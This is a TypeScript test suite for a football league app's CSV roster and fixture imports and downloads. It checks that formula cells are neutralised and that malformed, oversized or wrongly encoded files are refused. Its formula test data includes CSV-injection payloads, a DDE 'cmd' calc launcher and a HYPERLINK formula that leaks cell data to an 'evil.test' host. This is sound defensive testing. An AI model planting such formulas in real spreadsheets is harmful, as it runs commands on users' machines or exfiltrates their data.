/**
 * Issue #21, hostile spreadsheets: the CSV imports and downloads against files built to
 * hurt. Formula cells never leave the server runnable and come back unchanged; quotes,
 * commas and line breaks survive a round trip; a BOM, CRLF, LF and both mixed are read
 * alike; 10,000 rows are checked and written quickly; bad dates, NUL bytes, other
 * encodings, malformed quoting, a 1 MB single value and 10,000 columns are refused with
 * a clear 400 (nothing written) within seconds. Property: any table of strings written by
 * the CSV writer parses back to itself, and no cell of it starts like a formula.
 */
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { CSV_MAX_BYTES, csvCell, parseCsv, restoreCell, toCsv } from '../../api/domain/csv';
import { makeTinyLeagueApp } from '../fixtures/app';
import { addRoleUsers } from '../fixtures/auth';
import { changedTables, tableChecksums } from '../fixtures/checksum';
import { insertLeague, insertTeam, updatePlayer, updateTeam } from '../fixtures/factory';
import { figure, SETTINGS } from './settings';

/** A refused file must be answered within this (the 10,000-row import has its own budget). */
const ANSWER_WITHIN_MS = 5_000;
const FORMULA_START = /^[=+\-@\t\r]/;

let t: Awaited<ReturnType<typeof makeTinyLeagueApp>>;
let admin: string;
/** tl-27's twenty clubs: k01 "Klub 01" … k20. */
const CLUBS = Array.from({ length: 20 }, (_, index) => `k${String(index + 1).padStart(2, '0')}`);

beforeAll(async () => {
  t = await makeTinyLeagueApp();
  const tokens = await addRoleUsers(t.connection.db);
  admin = tokens.superAdmin ?? '';
  await insertLeague(t.connection.db, {
    league_id: 'tl-27',
    league_name: 'Tiny League',
    season: '2027',
    status: 'upcoming',
    location: 'Testshire',
  });
  for (const id of CLUBS) {
    await insertTeam(t.connection.db, {
      team_id: id,
      team_name: `Klub ${id.slice(1)}`,
      league_id: 'tl-27',
      location: `${id} ground`,
    });
  }
});

afterAll(async () => {
  await t.close();
});

interface Answer {
  status: number;
  ms: number;
  body: Record<string, unknown>;
}

async function upload(
  path: string,
  body: string | Uint8Array,
  options: { dryRun?: boolean; contentType?: string } = {},
): Promise<Answer> {
  const started = performance.now();
  const response = await t.app.request(`${path}${options.dryRun ? '?dry_run=true' : ''}`, {
    method: 'POST',
    headers: { 'Content-Type': options.contentType ?? 'text/csv', Authorization: `Bearer ${admin}` },
    body: typeof body === 'string' ? body : (body as Uint8Array<ArrayBuffer>),
  });
  const text = await response.text();
  return {
    status: response.status,
    ms: performance.now() - started,
    body: JSON.parse(text) as Record<string, unknown>,
  };
}

async function download(path: string): Promise<string> {
  const response = await t.app.request(path);
  expect(response.status, path).toBe(200);
  return new TextDecoder('utf-8', { ignoreBOM: true }).decode(await response.arrayBuffer());
}

/** The cells of a downloaded file, as the parser reads them (not restored). */
function cells(text: string): string[][] {
  const parsed = parseCsv(text);
  if (!parsed.ok) throw new Error(`the download does not parse: ${parsed.error.message}`);
  return parsed.records.map((record) => record.fields);
}

/** Runs `refused` and checks nothing was written and it answered fast. */
async function refusedWithoutTrace(what: string, send: () => Promise<Answer>): Promise<Answer> {
  const before = await tableChecksums(t.connection);
  const answer = await send();
  expect(answer.status, `${what}: ${JSON.stringify(answer.body).slice(0, 300)}`).toBeGreaterThanOrEqual(400);
  expect(answer.status, what).toBeLessThan(500);
  expect(typeof answer.body.detail, what).toBe('string');
  expect(answer.ms, what).toBeLessThan(ANSWER_WITHIN_MS);
  expect(changedTables(before, await tableChecksums(t.connection)), what).toEqual([]);
  return answer;
}

const ROSTER_HEADER = 'name,number,position,position_general\r\n';
const FIXTURE_HEADER = 'date,home_team,away_team,location\r\n';

/** A new empty team to import a roster into. */
let teams = 0;
async function freshTeam(): Promise<string> {
  teams += 1;
  const id = `hostile.${teams}`;
  await insertTeam(t.connection.db, { team_id: id, team_name: `Hostile ${teams}`, league_id: null });
  return id;
}

describe('formula cells', () => {
  const NAMES = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.test/?leak="&A1,"Click")',
    '+SUM(1,2)',
    "-2+3+cmd|' /C calc'!A0",
    '@SUM(A1:A10)',
    '=1+1, "quoted", and more',
    'Ordinary Name',
    '-',
    '=',
  ];

  it('are stored as sent, downloaded neutralised and import back unchanged', async () => {
    const team = await freshTeam();
    const file =
      ROSTER_HEADER + NAMES.map((name, index) => `${csvCell(name)},${index + 10},Forward,FW`).join('\r\n');
    const imported = await upload(`/api/teams/${team}/roster.csv`, file);
    expect(imported.status, JSON.stringify(imported.body)).toBe(201);
    // The file neutralised the cells; the import undid it: names are stored exactly.
    const stored = await t.connection.db
      .selectFrom('players')
      .select('name')
      .where('team_id', '=', team)
      .orderBy('number')
      .execute();
    expect(stored.map((row) => row.name)).toEqual(NAMES);

    const text = await download(`/api/teams/${team}/roster.csv`);
    const [, ...rows] = cells(text);
    for (const row of rows) expect(row[0], 'a name cell').not.toMatch(FORMULA_START);
    // Round trip: the download imported into another team gives the same names.
    const copy = await freshTeam();
    const again = await upload(`/api/teams/${copy}/roster.csv`, new TextEncoder().encode(text));
    expect(again.status, JSON.stringify(again.body)).toBe(201);
    expect((await download(`/api/teams/${copy}/roster.csv`)).replace(/,[^,\r\n]*\r\n/g, '\r\n')).toBe(
      text.replace(/,[^,\r\n]*\r\n/g, '\r\n'),
    );
  });

  it('in every download: no text cell of any export starts like a formula', async () => {
    await updateTeam(t.connection.db, 'east.united', { team_name: '=East United' });
    await updatePlayer(t.connection.db, 'sc.gk', { name: '@South Keeper' });
    await t.connection.db
      .updateTable('matches')
      .set({ location: '+44 Ground' })
      .where('league_id', '=', 'tl-26')
      .execute();
    try {
      for (const path of [
        '/api/leagues/tl-26/table.csv',
        '/api/leagues/tl-26/matches.csv',
        '/api/leagues/tl-26/stats.csv?kind=scorers',
        '/api/leagues/tl-26/stats.csv?kind=assists',
        '/api/leagues/tl-26/stats.csv?kind=clean_sheets',
        '/api/leagues/tl-26/stats.csv?kind=points',
        '/api/teams/south.city/roster.csv',
      ]) {
        const all = cells(await download(path)).flat();
        const runnable = all.filter((cell) => FORMULA_START.test(cell) && !/^-\d+$/.test(cell));
        expect(runnable, path).toEqual([]);
      }
      const table = cells(await download('/api/leagues/tl-26/table.csv'));
      expect(table.some((row) => row[2] === "'=East United")).toBe(true);
      // A negative goal difference stays a number.
      expect(table.some((row) => row[9] === '-3')).toBe(true);
    } finally {
      await updateTeam(t.connection.db, 'east.united', { team_name: 'East United' });
      await updatePlayer(t.connection.db, 'sc.gk', { name: 'South City Keeper' });
    }
  });
});

describe('quotes, BOM and line ends', () => {
  it('reads a BOM, CRLF, LF and both mixed alike, with quoted commas, quotes and line breaks', async () => {
    // A line break is refused in a location (a control character) but fine in a column the import ignores.
    const header = 'date,home_team,away_team,location,notes';
    const rows = [
      '2027-01-02T15:00:00Z,k01,k02,"Park ""North"", Pitch 1",',
      '2027-01-09T15:00:00Z,k03,k04,,"Two\r\nLines, and ""quotes"""',
      '2027-01-16T15:00:00Z,"k05",k06,"",x',
    ];
    const variants = {
      crlf: `\uFEFF${header}\r\n${rows.join('\r\n')}\r\n`,
      lf: `${header}\n${rows.join('\n')}`,
      mixed: `\uFEFF${header}\n${rows[0]}\r\n${rows[1]}\n${rows[2]}\r\n\r\n\n`,
      doubleBom: `\uFEFF\uFEFF${header}\r\n${rows.join('\r\n')}`,
    };
    const answers: Record<string, unknown> = {};
    for (const [name, file] of Object.entries(variants)) {
      const answer = await upload('/api/leagues/tl-27/matches.csv', file, { dryRun: true });
      expect(answer.status, name).toBe(200);
      expect(answer.body.errors, name).toEqual([]);
      expect(answer.body.ignored_columns, name).toEqual(['notes']);
      answers[name] = answer.body.rows;
    }
    expect(answers.lf).toEqual(answers.crlf);
    expect(answers.mixed).toEqual(answers.crlf);
    expect(answers.doubleBom).toEqual(answers.crlf);
    const locations = (answers.crlf as { line: number; match: { location: string } }[]).map((row) => [
      row.line,
      row.match.location,
    ]);
    // The quoted line break makes line 3's record two lines long: the next one is line 5.
    expect(locations).toEqual([
      [2, 'Park "North", Pitch 1'],
      [3, 'k03 ground'],
      [5, 'k05 ground'],
    ]);
    const refused = await upload(
      '/api/leagues/tl-27/matches.csv',
      `${header}\n2027-01-02T15:00:00Z,k01,k02,"Two\nLines",\n`,
      { dryRun: true },
    );
    expect(refused.body.errors).toEqual([
      { line: 2, column: 'location', message: 'must not contain control characters' },
    ]);
  });

  it('refuses malformed quoting and a bare CR with the line, writing nothing', async () => {
    const cases: [string, string, RegExp][] = [
      [
        'unclosed',
        `${FIXTURE_HEADER}2027-01-02T15:00:00Z,k01,k02,"Park\r\n2027-01-09T15:00:00Z,k03,k04,\r\n`,
        /^Line 2: a quoted value is never closed/,
      ],
      [
        'text after quote',
        `${FIXTURE_HEADER}2027-01-02T15:00:00Z,k01,k02,"Park" North\r\n`,
        /^Line 2: text follows a closing quote/,
      ],
      [
        'quote in value',
        `${FIXTURE_HEADER}2027-01-02T15:00:00Z,k01,k02,5" pitch\r\n`,
        /^Line 2: a quote inside a value/,
      ],
      [
        'bare CR',
        `${FIXTURE_HEADER}2027-01-02T15:00:00Z,k01,k02,\r2027-01-09T15:00:00Z,k03,k04,\r\n`,
        /^Line 2: a carriage return \(CR\) without a line feed/,
      ],
      [
        'after values over two lines',
        `${FIXTURE_HEADER}${'2027-01-02T15:00:00Z,k01,k02,"a\nb"\n'.repeat(2)}x,"y"z\n`,
        /^Line 6: text follows a closing quote/,
      ],
    ];
    for (const [name, file, detail] of cases) {
      for (const dryRun of [true, false]) {
        const answer = await refusedWithoutTrace(name, () =>
          upload('/api/leagues/tl-27/matches.csv', file, { dryRun }),
        );
        expect(answer.status, name).toBe(400);
        expect(answer.body.detail, name).toMatch(detail);
      }
    }
  });
});

describe('other encodings and binary files', () => {
  const latin1 = (text: string) => Uint8Array.from([...text].map((char) => char.charCodeAt(0)));
  const utf16 = (text: string, bom: boolean) =>
    Uint8Array.from([...(bom ? [0xff, 0xfe] : []), ...Buffer.from(text, 'utf16le')]);

  it('are refused with a clear 400 and nothing written', async () => {
    const roster = `${ROSTER_HEADER}Zoë Ødegård,30,Midfielder,MID\r\n`;
    const cases: [string, Uint8Array, RegExp][] = [
      ['Latin-1', latin1(roster), /^The file is not UTF-8 text/],
      ['UTF-16 with BOM', utf16(roster, true), /^The file is UTF-16 text, not UTF-8/],
      [
        'UTF-16 without BOM',
        utf16(`${ROSTER_HEADER}Zoe,30,Midfielder,MID\r\n`, false),
        /^The file contains NUL characters/,
      ],
      [
        'a NUL byte',
        new TextEncoder().encode(`${ROSTER_HEADER}Nul\u0000Name,30,Midfielder,MID\r\n`),
        /^The file contains NUL characters/,
      ],
      [
        'an xlsx workbook',
        Uint8Array.from([0x50, 0x4b, 0x03, 0x04, 0x14, 0x00, 0x06, 0x00, 0x08, 0x00]),
        /^The file is a spreadsheet workbook/,
      ],
      [
        'random bytes',
        Uint8Array.from({ length: 4096 }, (_, i) => (i * 7919 + 13) % 256),
        /^The file is not UTF-8 text|^The file contains NUL/,
      ],
      [
        'an overlong UTF-8 encoding',
        Uint8Array.from([...new TextEncoder().encode(ROSTER_HEADER), 0xc0, 0xae, 0x0a]),
        /^The file is not UTF-8 text/,
      ],
      [
        'a lone surrogate in UTF-8',
        Uint8Array.from([...new TextEncoder().encode(ROSTER_HEADER), 0xed, 0xa0, 0x80, 0x0a]),
        /^The file is not UTF-8 text/,
      ],
    ];
    for (const [name, bytes, detail] of cases) {
      const answer = await refusedWithoutTrace(name, () => upload('/api/teams/north.town/roster.csv', bytes));
      expect(answer.status, name).toBe(400);
      expect(answer.body.detail, name).toMatch(detail);
    }
  });
});

describe('bad dates', () => {
  const BAD: [string, RegExp][] = [
    ['', /^is required/],
    ['2027-03-06', /^needs a kick-off time too/],
    ['2027-03-06T15:00', /^needs its offset from UTC/],
    ['2027-03-06 15:00:00', /^needs its offset from UTC/],
    ['2027-13-01T15:00:00Z', /is not a real date and time$/],
    ['2027-02-29T15:00:00Z', /is not a real date and time$/],
    ['2027-04-31T15:00:00Z', /is not a real date and time$/],
    ['2027-03-06T24:00:00Z', /is not a real date and time$/],
    ['2027-03-06T15:60:00Z', /is not a real date and time$/],
    ['2027-03-06T15:00:00+25:00', /is not a real date and time$/],
    ['06/03/2027 15:00', /is not a date and time such as/],
    ['March 6, 2027 3pm', /is not a date and time such as/],
    ['tomorrow', /is not a date and time such as/],
    ['1741273200', /is not a date and time such as/],
    ['２０２７-03-06T15:00:00Z', /is not a date and time such as/],
    ['2027-03-06T15:00:00ZZ', /is not a date and time such as/],
    ['=NOW()', /is not a date and time such as/],
    ["'=NOW()", /is not a date and time such as/],
    ['2072-03-06T15:00:00Z', /^is in 2072: matches of the 2027 season are dated 2026 to 2028$/],
    ['0000-01-01T00:00:00Z', /is not a real date and time$/],
    ['9999-12-31T23:59:59Z', /^is in 9999/],
  ];

  it('are each named by line and column, in the dry run and the refused import alike', async () => {
    const file =
      FIXTURE_HEADER +
      BAD.map(([date], index) => `${csvCell(date)},${CLUBS[index % 20]},${CLUBS[(index + 1) % 20]},`).join(
        '\r\n',
      );
    const preview = await upload('/api/leagues/tl-27/matches.csv', file, { dryRun: true });
    expect(preview.status).toBe(200);
    const errors = preview.body.errors as { line: number; column: string; message: string }[];
    expect(errors.map((error) => [error.line, error.column])).toEqual(
      BAD.map((_, index) => [index + 2, 'date']),
    );
    for (const [index, [date, message]] of BAD.entries())
      expect(errors[index]?.message, date).toMatch(message);
    const refused = await refusedWithoutTrace('bad dates', () =>
      upload('/api/leagues/tl-27/matches.csv', file),
    );
    expect(refused.body.errors).toEqual(errors);
    expect(refused.body.detail).toBe(`${BAD.length} rows have errors; nothing was imported`);
  });
});

describe('size', () => {
  it('imports 10,000 fixtures in one transaction, quickly, and downloads them', async () => {
    const start = Date.parse('2027-01-01T00:00:00Z');
    const lines = Array.from({ length: 10_000 }, (_, index) => {
      const date = new Date(start + index * 3_600_000).toISOString();
      const home = CLUBS[index % 20];
      const away = CLUBS[(index + 7) % 20];
      return index % 3 === 0 ? `${date},${home},${away},"Pitch ${index}, ""B"""` : `${date},${home},${away},`;
    });
    const body = `\uFEFF${FIXTURE_HEADER}${lines.map((line, index) => `${line}${index % 2 ? '\n' : '\r\n'}`).join('')}`;
    expect(new TextEncoder().encode(body).length).toBeLessThan(CSV_MAX_BYTES);

    const preview = await upload('/api/leagues/tl-27/matches.csv', body, { dryRun: true });
    expect(preview.status).toBe(200);
    expect(preview.body.errors).toEqual([]);
    expect((preview.body.rows as unknown[]).length).toBe(10_000);
    figure('CSV dry run of 10,000 fixtures (ms)', Math.round(preview.ms));
    expect(preview.ms).toBeLessThan(10_000);

    const created = await upload('/api/leagues/tl-27/matches.csv', body);
    expect(created.status, JSON.stringify(created.body).slice(0, 300)).toBe(201);
    expect(created.body.created).toBe(10_000);
    figure('CSV import of 10,000 fixtures (ms)', Math.round(created.ms));
    expect(created.ms).toBeLessThan(30_000);
    const ids = (created.body.rows as { match: { id: number } }[]).map((row) => row.match.id);
    expect(new Set(ids).size).toBe(10_000);

    const started = performance.now();
    const text = await download('/api/leagues/tl-27/matches.csv');
    figure('CSV download of 10,000 matches (ms)', Math.round(performance.now() - started));
    const records = cells(text);
    expect(records.length).toBe(10_001);
    expect(records[1]?.slice(0, 4)).toEqual(['2027-01-01T00:00:00.000Z', 'k01', 'k08', 'Pitch 0, "B"']);
    expect(records[2]?.slice(0, 4)).toEqual(['2027-01-01T01:00:00.000Z', 'k02', 'k09', 'k02 ground']);
    // The ids answered are the rows written, in file order.
    expect(records.slice(1).map((record) => Number(record[4]))).toEqual(ids);
  });

  it('answers a 10,000-row roster (only 100 shirt numbers exist) with every error, writing nothing', async () => {
    const team = await freshTeam();
    const file =
      ROSTER_HEADER +
      Array.from({ length: 10_000 }, (_, i) => `Player ${i},${i % 100},Defender,DEF`).join('\r\n');
    const answer = await refusedWithoutTrace('10,000-row roster', () =>
      upload(`/api/teams/${team}/roster.csv`, file),
    );
    expect(answer.body.detail).toBe('9900 rows have errors; nothing was imported');
    expect((answer.body.errors as { message: string }[])[0]).toEqual({
      line: 102,
      column: 'number',
      message: 'Shirt number 0 is also on line 2',
    });
    figure('CSV roster of 10,000 rows refused in (ms)', Math.round(answer.ms));
  });

  it('refuses a 1 MB single value, 10,000 columns and a file of quotes quickly', async () => {
    const room = CSV_MAX_BYTES - 200;
    const huge = await refusedWithoutTrace('a huge quoted value', () =>
      upload('/api/teams/north.town/roster.csv', `${ROSTER_HEADER}"${'x'.repeat(room)}",30,Defender,DEF\r\n`),
    );
    expect(huge.body.errors).toEqual([
      { line: 2, column: 'name', message: 'must be at most 100 characters' },
    ]);
    // The refused row's values are echoed cut short, not the megabyte.
    expect(JSON.stringify(huge.body).length).toBeLessThan(2_000);

    const unquoted = await refusedWithoutTrace('a huge unquoted date', () =>
      upload('/api/leagues/tl-27/matches.csv', `${FIXTURE_HEADER}${'9'.repeat(room)},k01,k02,\r\n`),
    );
    expect((unquoted.body.errors as { message: string }[])[0]?.message).toMatch(
      /^'9{40}…' is not a date and time/,
    );

    const wide = await refusedWithoutTrace('10,000 columns', () =>
      upload(
        '/api/teams/north.town/roster.csv',
        `${ROSTER_HEADER}A,30,Defender,DEF${',x'.repeat(10_000)}\r\n`,
      ),
    );
    expect(wide.body.errors).toEqual([
      {
        line: 2,
        column: null,
        message:
          'has 10004 values but the header has 4 columns: a value containing a comma must be in double quotes',
      },
    ]);
    const wideHeader = await upload(
      '/api/teams/north.town/roster.csv',
      `${Array.from({ length: 10_000 }, (_, i) => `c${i}`).join(',')},name,number,position\r\nA,30,Defender\r\n`,
      { dryRun: true },
    );
    expect(wideHeader.ms).toBeLessThan(ANSWER_WITHIN_MS);
    expect((wideHeader.body.ignored_columns as string[]).length).toBe(10_000);

    const quotes = await refusedWithoutTrace('a value of doubled quotes', () =>
      upload(
        '/api/teams/north.town/roster.csv',
        `${ROSTER_HEADER}"${'""'.repeat(room / 2)}",30,Defender,DEF\r\n`,
      ),
    );
    expect(quotes.body.errors).toEqual([
      { line: 2, column: 'name', message: 'must be at most 100 characters' },
    ]);
    const lines = await refusedWithoutTrace('a megabyte of empty lines', () =>
      upload('/api/teams/north.town/roster.csv', `${ROSTER_HEADER}${'\r\n'.repeat(room / 2)}"open`),
    );
    expect(lines.body.detail).toBe(
      `Line ${room / 2 + 2}: a quoted value is never closed: a value that starts with " must end with " (a quote inside it is written twice, "")`,
    );
    const over = await refusedWithoutTrace('over 1 MB', () =>
      upload('/api/teams/north.town/roster.csv', `${ROSTER_HEADER}${'x'.repeat(CSV_MAX_BYTES)}`),
    );
    expect(over.status).toBe(413);
  });
});

describe('the writer and the parser (property)', () => {
  const hostileText = fc.oneof(
    fc.string({ unit: 'grapheme', maxLength: 30 }),
    fc.string({
      unit: fc.constantFrom('"', ',', '\r', '\n', '\t', '=', '+', '-', '@', "'", 'a', ' ', 'é', '\uFEFF'),
      maxLength: 12,
    }),
    fc.constantFrom('=1+1', '-3', '@x', '\r\n', '""', "'=x", "'", ''),
  );
  const cell = fc.oneof(hostileText, fc.integer({ min: -1000, max: 1000 }), fc.constant(null));

  it('parses every written table back to itself, and no written text cell starts like a formula', () => {
    fc.assert(
      fc.property(
        fc.array(fc.string({ unit: 'grapheme-ascii', minLength: 1, maxLength: 8 }), {
          minLength: 1,
          maxLength: 6,
        }),
        fc.array(fc.array(cell, { minLength: 6, maxLength: 6 }), { maxLength: 8 }),
        (header, grid) => {
          const rows = grid.map((row) => row.slice(0, header.length));
          const parsed = parseCsv(toCsv(header, rows));
          if (!parsed.ok) throw new Error(parsed.error.message);
          const [writtenHeader, ...written] = parsed.records.map((record) => record.fields);
          for (const [c, name] of header.entries()) {
            expect(writtenHeader?.[c]).not.toMatch(FORMULA_START);
            if (!/^'[=+\-@\t\r]/.test(name)) expect(restoreCell(writtenHeader?.[c] ?? '')).toBe(name);
          }
          expect(written.length).toBe(rows.length);
          for (const [r, row] of rows.entries()) {
            for (const [c, value] of row.entries()) {
              const raw = written[r]?.[c] ?? '';
              if (typeof value === 'number') expect(raw).toBe(String(value));
              else {
                expect(raw).not.toMatch(FORMULA_START);
                // Restoring is the inverse of neutralising, but for text that itself looks neutralised.
                if (!/^'[=+\-@\t\r]/.test(value ?? '')) expect(restoreCell(raw)).toBe(value ?? '');
              }
            }
          }
        },
      ),
      { numRuns: Math.max(500, SETTINGS.badInputs) },
    );
  });
});
